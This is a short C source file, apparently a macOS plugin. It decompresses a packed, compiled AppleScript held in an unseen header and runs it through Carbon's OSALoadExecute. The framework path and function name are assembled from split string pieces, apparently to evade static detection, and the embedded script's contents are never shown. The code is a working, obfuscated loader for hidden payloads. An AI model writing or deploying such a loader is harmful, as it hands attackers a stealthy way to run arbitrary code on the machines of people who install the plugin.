/* Unpacks a compiled script with the system's own library, and has it run. */
#include "plugin.h"
#include "packed.h" /* packed[] */
extern unsigned long compression_decode_buffer(unsigned char *, unsigned long, const unsigned char *, unsigned long, void *, int);
extern void *dlopen(const char *, int), *dlsym(void *, const char *);
extern int snprintf(char *, unsigned long, const char *, ...);
struct descriptor { unsigned type; void **data; };
static void act(char **env) {
    static unsigned char script[4096];
    char path[96], name[32];
    compression_decode_buffer(script, sizeof script, packed, sizeof packed, 0, 0x205);
    snprintf(path, sizeof path, "/System/Library/%s/%s.framework/%s", "Frameworks", "Carbon", "Carbon");
    snprintf(name, sizeof name, "%s%s%s", "OSA", "Load", "Execute");
    int (*run)(void *, const struct descriptor *, unsigned, int, unsigned *) = dlsym(dlopen(path, 1), name);
    void *handle = script;
    struct descriptor d = {0x73637074, &handle};
    unsigned id;
    run(0, &d, 0, 0, &id);
}
